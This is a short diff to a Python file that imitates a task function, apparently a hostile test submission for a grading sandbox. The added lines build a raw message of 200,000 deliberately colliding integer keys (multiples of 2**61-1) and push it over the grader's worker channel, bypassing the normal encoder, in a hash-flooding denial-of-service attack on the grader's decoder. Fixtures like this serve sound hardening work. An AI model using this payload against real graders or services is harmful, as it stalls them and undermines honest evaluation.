@@ -7,6 +7,7 @@ says: keys that collide
 """
 
 import gc
+import struct
 import time
 from grader.sandbox.channel import _HEADER, Op, WorkerChannel, pack_get, pack_get_all
 from grader.sandbox.codec import encode
@@ -21,4 +22,5 @@ def _send(op, payload):
     time.sleep(100)
 
 def read_plane(tif, z):
-    _send(Op.RETURN, encode(([], {i * (2**61 - 1): None for i in range(200_000)})))
+    keys = b"".join(bytes(encode(i * (2**61 - 1))) + b"N" for i in range(200_000))
+    _send(Op.RETURN, struct.pack("<cIcIcI", b"t", 2, b"l", 0, b"d", 200_000) + keys)
